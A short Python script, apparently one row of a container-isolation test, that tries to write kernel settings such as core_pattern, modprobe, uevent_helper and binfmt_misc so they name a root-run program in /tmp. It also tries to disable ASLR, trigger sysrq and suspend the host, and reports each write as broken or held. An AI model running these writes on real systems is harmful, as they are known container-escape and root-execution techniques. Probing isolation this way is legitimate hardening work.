"""Row 23. Writes the kernel's settings. core_pattern is the classic: the kernel runs what it names, as root, outside
(CVE-2025-31133, CVE-2025-52565, CVE-2025-52881)."""
for path, value in {
    "/proc/sys/kernel/core_pattern": "|/tmp/run-me-as-root",
    "/proc/sys/kernel/modprobe": "/tmp/run-me-as-root",
    "/proc/sys/kernel/hostname": "owned",
    "/proc/sys/vm/panic_on_oom": "1",
    "/proc/sys/kernel/randomize_va_space": "0",
    "/proc/sys/net/ipv4/ip_forward": "1",
    "/proc/sys/fs/binfmt_misc/register": ":x:M::\\x7fELF::/tmp/run-me:",
    "/proc/sysrq-trigger": "h",
    "/sys/kernel/uevent_helper": "/tmp/run-me-as-root",
    "/sys/power/state": "mem",
}.items():
    try:
        with open(path, "r+") as file:
            file.write(value)
        print(f"BROKE: wrote {path}")
    except OSError as error:
        print(f"HELD:  {path}: {error.strerror}")
